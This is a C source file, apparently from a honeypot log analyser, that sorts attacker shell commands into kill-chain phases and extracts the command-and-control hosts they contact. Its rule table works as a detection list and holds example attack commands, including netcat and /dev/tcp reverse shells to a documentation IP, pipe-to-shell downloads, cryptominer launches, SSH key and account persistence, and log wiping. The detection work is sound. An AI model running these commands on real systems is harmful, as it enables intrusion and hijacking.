/*  cmdrule.c - the shell-command phase rule table and its command parser (see cmdrule.h). */
#include "cmdrule.h"

#include "obs.h"
#include "xalloc.h"

#include <stdbool.h>
#include <stdint.h>
#include <stdlib.h>
#include <string.h>

/*  Words of one simple command looked at by the rule table and the C2 parser. */
#define S_MAX_WORDS 64

/* -------------------------------------------------------------------------------------------
    URL hosts */

/*  See cmdrule.h. */
char *
cmdrule_url_host(const char *url, bool *too_long)
{
    if (too_long) {
        *too_long = false;
    }
    const char *p = strstr(url, "://");
    p = p ? p + 3 : url;
    size_t end = strcspn(p, "/?#");
    const char *at = memchr(p, '@', end);
    while (at) {
        end -= (size_t)(at + 1 - p);
        p = at + 1;
        at = memchr(p, '@', end);
    }
    size_t host_len;
    if (end > 0 && p[0] == '[') {
        const char *close = memchr(p, ']', end);
        if (!close) {
            return NULL;
        }
        p++;
        host_len = (size_t)(close - p);
    } else {
        const char *colon = memchr(p, ':', end);
        host_len = colon ? (size_t)(colon - p) : end;
    }
    if (host_len > OBS_MAX_SHORT && too_long) {
        *too_long = true;
    }
    if (host_len == 0 || host_len > OBS_MAX_SHORT) {
        return NULL;
    }
    return xstrndup(p, host_len);
}

/* -------------------------------------------------------------------------------------------
    The rule table */

/*  Rows in priority order (docs/cowrie.md, "Phase rule table"). The example of each row is a
   command that row matches and no earlier row does; the unit tests run every one. */
static const cmdrule_t s_rules[] = {
    {UKC_IMPACT, CMDRULE_SUBSTRING, "xmrig", "./xmrig --donate-level 1 -B"},
    {UKC_IMPACT, CMDRULE_SUBSTRING, "xmr-stak", "nohup ./xmr-stak --noUAC &"},
    {UKC_IMPACT, CMDRULE_SUBSTRING, "minerd", "./minerd -a scrypt -B"},
    {UKC_IMPACT, CMDRULE_SUBSTRING, "cpuminer", "./cpuminer-multi -B"},
    {UKC_IMPACT, CMDRULE_SUBSTRING, "stratum+tcp", "./run -o stratum+tcp://pool.example:3333"},
    {UKC_IMPACT, CMDRULE_SUBSTRING, "stratum+ssl", "./run -o stratum+ssl://pool.example:443"},
    {UKC_IMPACT, CMDRULE_SUBSTRING, "kdevtmpfsi", "pkill -9 kdevtmpfsi"},
    {UKC_DELIVERY, CMDRULE_SUBSTRING, "scp -t", "scp -t /tmp/nprmcfm7"},
    {UKC_LATERAL_MOVEMENT, CMDRULE_PROGRAM, "ssh", "ssh root@10.0.0.5 'uname -a'"},
    {UKC_LATERAL_MOVEMENT, CMDRULE_PROGRAM, "scp", "scp /tmp/x root@10.0.0.5:/tmp/"},
    {UKC_LATERAL_MOVEMENT, CMDRULE_PROGRAM, "sshpass", "sshpass -p pw rsync -a x 10.0.0.5:"},
    {UKC_COMMAND_AND_CONTROL, CMDRULE_TRANSFER, "wget curl tftp ftpget nc ncat netcat",
     "nc 203.0.113.7 4444 -e /bin/sh"},
    {UKC_COMMAND_AND_CONTROL, CMDRULE_SUBSTRING, "wget", "wget -q -O - $URL | sh"},
    {UKC_COMMAND_AND_CONTROL, CMDRULE_SUBSTRING, "curl", "curl -s $URL | sh"},
    {UKC_COMMAND_AND_CONTROL, CMDRULE_SUBSTRING, "tftp", "tftp -h"},
    {UKC_COMMAND_AND_CONTROL, CMDRULE_SUBSTRING, "ftpget", "ftpget --help"},
    {UKC_COMMAND_AND_CONTROL, CMDRULE_SUBSTRING, "/dev/tcp/",
     "bash -i >/dev/tcp/203.0.113.7/4444 0<&1"},
    {UKC_PERSISTENCE, CMDRULE_SUBSTRING, "authorized_keys",
     "echo ssh-rsa AAAA >> ~/.ssh/authorized_keys"},
    {UKC_PERSISTENCE, CMDRULE_SUBSTRING, "crontab", "crontab -l"},
    {UKC_PERSISTENCE, CMDRULE_SUBSTRING, "/etc/cron", "echo x > /etc/cron.d/x"},
    {UKC_PERSISTENCE, CMDRULE_SUBSTRING, "chpasswd", "echo root:x|chpasswd"},
    {UKC_PERSISTENCE, CMDRULE_SUBSTRING, "/etc/rc.local", "echo /tmp/x >> /etc/rc.local"},
    {UKC_PERSISTENCE, CMDRULE_SUBSTRING, "systemctl enable", "systemctl enable x.service"},
    {UKC_PERSISTENCE, CMDRULE_SUBSTRING, "update-rc.d", "update-rc.d x defaults"},
    {UKC_PERSISTENCE, CMDRULE_SUBSTRING, "/etc/init.d/", "cp x /etc/init.d/x"},
    {UKC_PERSISTENCE, CMDRULE_PROGRAM, "useradd", "useradd -m admin2"},
    {UKC_PERSISTENCE, CMDRULE_PROGRAM, "adduser", "adduser admin2"},
    {UKC_PERSISTENCE, CMDRULE_PROGRAM, "usermod", "usermod -aG sudo admin2"},
    {UKC_PERSISTENCE, CMDRULE_PROGRAM, "passwd", "passwd root"},
    {UKC_DEFENSE_EVASION, CMDRULE_SUBSTRING, "history -c", "history -c"},
    {UKC_DEFENSE_EVASION, CMDRULE_SUBSTRING, "HISTFILE", "unset HISTFILE"},
    {UKC_DEFENSE_EVASION, CMDRULE_SUBSTRING, "HISTSIZE=0", "export HISTSIZE=0"},
    {UKC_DEFENSE_EVASION, CMDRULE_SUBSTRING, "rm -rf /var/log", "rm -rf /var/log/*"},
    {UKC_DEFENSE_EVASION, CMDRULE_SUBSTRING, "/var/log/wtmp", "cat /dev/null > /var/log/wtmp"},
    {UKC_DEFENSE_EVASION, CMDRULE_SUBSTRING, "chattr", "chattr -ia .ssh"},
    {UKC_DEFENSE_EVASION, CMDRULE_SUBSTRING, "setenforce 0", "setenforce 0"},
    {UKC_DEFENSE_EVASION, CMDRULE_SUBSTRING, "ufw disable", "ufw disable"},
    {UKC_DEFENSE_EVASION, CMDRULE_SUBSTRING, "iptables -F", "iptables -F"},
    {UKC_DISCOVERY, CMDRULE_SUBSTRING, "uname", "uname -a"},
    {UKC_DISCOVERY, CMDRULE_SUBSTRING, "whoami", "whoami"},
    {UKC_DISCOVERY, CMDRULE_SUBSTRING, "/proc/cpuinfo", "cat /proc/cpuinfo | grep name"},
    {UKC_DISCOVERY, CMDRULE_SUBSTRING, "/proc/meminfo", "cat /proc/meminfo"},
    {UKC_DISCOVERY, CMDRULE_SUBSTRING, "nproc", "nproc --all"},
    {UKC_DISCOVERY, CMDRULE_SUBSTRING, "lscpu", "lscpu | grep Model"},
    {UKC_DISCOVERY, CMDRULE_SUBSTRING, "ifconfig", "ifconfig eth0"},
    {UKC_DISCOVERY, CMDRULE_SUBSTRING, "free -", "free -m"},
    {UKC_DISCOVERY, CMDRULE_SUBSTRING, "/etc/os-release", "cat /etc/os-release"},
    {UKC_DISCOVERY, CMDRULE_SUBSTRING, "/etc/issue", "cat /etc/issue"},
    {UKC_DISCOVERY, CMDRULE_SUBSTRING, "/ip cloud print", "/ip cloud print"},
    {UKC_DISCOVERY, CMDRULE_PROGRAM, "w", "w"},
    {UKC_DISCOVERY, CMDRULE_PROGRAM, "id", "id"},
    {UKC_DISCOVERY, CMDRULE_PROGRAM, "who", "who -a"},
    {UKC_DISCOVERY, CMDRULE_PROGRAM, "uptime", "uptime"},
    {UKC_DISCOVERY, CMDRULE_PROGRAM, "hostname", "hostname"},
    {UKC_DISCOVERY, CMDRULE_PROGRAM, "netstat", "netstat -plnt"},
    {UKC_DISCOVERY, CMDRULE_PROGRAM, "lspci", "lspci | grep VGA"},
    {UKC_DISCOVERY, CMDRULE_PROGRAM, "ps", "ps aux"},
    {UKC_DISCOVERY, CMDRULE_PROGRAM, "df", "df -h"},
};
#define S_N_RULES (sizeof s_rules / sizeof s_rules[0])
_Static_assert(S_N_RULES <= 64, "rule matches are kept in a 64-bit mask");

/*  Calls fn on each simple command of cmd (split at ; | & ( ) ` and newlines, into words
    at blanks, quotes and backslashes removed; at most S_MAX_WORDS words each) until fn
    returns true. Returns whether one did. */
static bool
s_each_simple(const char *cmd, bool (*fn)(char **w, size_t n, void *arg), void *arg)
{
    size_t len = strlen(cmd);
    char *buf = xmalloc(len + 1);
    char *w[S_MAX_WORDS];
    size_t n = 0, o = 0, i = 0;
    bool in_word = false, hit = false;
    while (!hit) {
        bool end = i >= len;
        char c = end ? '\0' : cmd[i];
        bool sep = end || (c != '\0' && strchr(";|&()`\n", c) != NULL);
        if (sep || c == ' ' || c == '\t' || c == '\r') {
            if (in_word) {
                buf[o++] = '\0';
                in_word = false;
            }
            if (sep && n > 0) {
                hit = fn(w, n, arg);
                n = 0;
            }
            if (end) {
                break;
            }
            i++;
            continue;
        }
        if (!in_word) {
            in_word = true;
            if (n < S_MAX_WORDS) {
                w[n++] = buf + o;
            }
        }
        if (c == '\'' || c == '"') {
            size_t close = i + 1;
            while (close < len && cmd[close] != c) {
                close++;
            }
            memcpy(buf + o, cmd + i + 1, close - i - 1);
            o += close - i - 1;
            i = close < len ? close + 1 : len;
            continue;
        }
        if (c == '\\' && i + 1 < len) {
            c = cmd[++i];
        }
        buf[o++] = c;
        i++;
    }
    free(buf);
    return hit;
}

static const char *
s_basename(const char *path)
{
    const char *slash = strrchr(path, '/');
    return slash && slash[1] ? slash + 1 : path;
}

/*  Index of the program word of a simple command: after VAR=value assignments and the
    wrappers sudo, busybox, nohup, exec and command; n when there is none. */
static size_t
s_program_at(char *const *w, size_t n)
{
    static const char *const wrappers[] = {"sudo", "busybox", "nohup", "exec", "command", NULL};
    size_t i = 0;
    while (i < n) {
        const char *eq = strchr(w[i], '=');
        size_t name =
            strspn(w[i], "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz_0123456789");
        bool assign = eq && name > 0 && w[i] + name == eq;
        bool wrapper = false;
        for (size_t k = 0; wrappers[k] && !assign; k++) {
            wrapper |= strcmp(s_basename(w[i]), wrappers[k]) == 0;
        }
        if (!assign && !wrapper) {
            break;
        }
        i++;
    }
    return i;
}

/*  True when h looks like a host name or address: letters, digits, '-', '_', '.', ':',
    with a dot or a colon, not starting with '-' or '.'. */
static bool
s_is_host(const char *h)
{
    size_t len = strlen(h);
    if (len == 0 || len > OBS_MAX_SHORT || h[0] == '-' || h[0] == '.') {
        return false;
    }
    bool mark = false;
    for (size_t i = 0; i < len; i++) {
        char c = h[i];
        bool alnum = (c >= 'a' && c <= 'z') || (c >= 'A' && c <= 'Z') || (c >= '0' && c <= '9');
        if (c == '.' || c == ':') {
            mark = true;
        } else if (!alnum && c != '-' && c != '_') {
            return false;
        }
    }
    return mark;
}

/*  Transfer tools and their short options that take a value. */
typedef struct {
    const char *name;     /* program name */
    const char *with_arg; /* option letters that take a value */
    bool url;             /* the host comes from a URL (wget, curl) */
} s_tool_t;

static const s_tool_t s_tools[] = {
    {"wget", "OoPUtTeaiBw", true},     {"curl", "oAHduxeXmrTbcEFKQwzCyY", true},
    {"tftp", "lrbm", false},           {"ftpget", "upP", false},
    {"ftpput", "upP", false},          {"nc", "wpsiqecxXWIOTV", false},
    {"ncat", "wpsiqecxXWIOTV", false}, {"netcat", "wpsiqecxXWIOTV", false},
};

/*  The host the transfer tool prog names among its arguments w[0..n), owned, or NULL:
    for wget and curl the host of the first argument that is a URL (or "host/path"); for
    the others the first operand. */
static char *
s_transfer_host(const char *prog, char *const *w, size_t n)
{
    const s_tool_t *tool = NULL;
    for (size_t k = 0; k < sizeof s_tools / sizeof s_tools[0] && !tool; k++) {
        tool = strcmp(prog, s_tools[k].name) == 0 ? &s_tools[k] : NULL;
    }
    if (!tool) {
        return NULL;
    }
    for (size_t i = 0; i < n; i++) {
        const char *a = w[i];
        if (a[0] == '-' && a[1] != '\0') {
            if (a[1] == '-') {
                continue; /* --long or --long=value */
            }
            for (size_t j = 1; a[j]; j++) {
                if (strchr(tool->with_arg, a[j])) {
                    i += a[j + 1] == '\0'; /* the value is the next word */
                    break;
                }
            }
            continue;
        }
        if (a[0] == '>' || a[0] == '<') {
            i += a[1] == '\0';
            continue;
        }
        if (tool->url) {
            bool scheme = strstr(a, "://") != NULL;
            size_t head = strcspn(a, "/");
            char *host = cmdrule_url_host(a, NULL);
            bool ok = host && s_is_host(host) &&
                      (scheme || a[head] == '/' || strspn(host, "0123456789.:") == strlen(host));
            if (ok) {
                return host;
            }
            free(host);
            continue;
        }
        return s_is_host(a) ? xstrdup(a) : NULL;
    }
    return NULL;
}

/*  What the simple commands of one command show: the program rows they match and the
    first transfer host. */
typedef struct {
    uint64_t programs; /* bit r: rule r (a PROGRAM row) matches */
    char *host;        /* first transfer host, owned, or NULL */
    int depth;         /* quoted scripts entered (sh -c "..."), at most 2 */
} s_scan_t;

static bool
s_scan_simple(char **w, size_t n, void *arg)
{
    s_scan_t *sc = arg;
    size_t p = s_program_at(w, n);
    if (p >= n) {
        return false;
    }
    const char *prog = s_basename(w[p]);
    for (size_t r = 0; r < S_N_RULES; r++) {
        if (s_rules[r].kind == CMDRULE_PROGRAM && strcmp(prog, s_rules[r].text) == 0) {
            sc->programs |= (uint64_t)1 << r;
        }
    }
    if (!sc->host) {
        sc->host = s_transfer_host(prog, w + p + 1, n - p - 1);
    }
    /* A quoted argument holding a script (sh -c "...", nohup $SHELL -c '...') is scanned
       as commands too. */
    for (size_t i = p + 1; i < n && sc->depth < 2; i++) {
        if (strpbrk(w[i], " ;|&")) {
            sc->depth++;
            s_each_simple(w[i], s_scan_simple, sc);
            sc->depth--;
        }
    }
    return false;
}

ukc_phase_t
cmdrule_phase(const char *cmd, char **c2_p)
{
    s_scan_t sc = {0};
    s_each_simple(cmd, s_scan_simple, &sc);
    ukc_phase_t phase = UKC_EXECUTION;
    for (size_t r = 0; r < S_N_RULES; r++) {
        const cmdrule_t *rule = &s_rules[r];
        bool match = rule->kind == CMDRULE_SUBSTRING ? strstr(cmd, rule->text) != NULL
                     : rule->kind == CMDRULE_PROGRAM ? (sc.programs >> r & 1) != 0
                                                     : sc.host != NULL;
        if (match) {
            phase = rule->phase;
            break;
        }
    }
    if (c2_p) {
        *c2_p = sc.host;
    } else {
        free(sc.host);
    }
    return phase;
}

size_t
cmdrule_count(void)
{
    return S_N_RULES;
}

const cmdrule_t *
cmdrule_at(size_t i)
{
    return i < S_N_RULES ? &s_rules[i] : NULL;
}
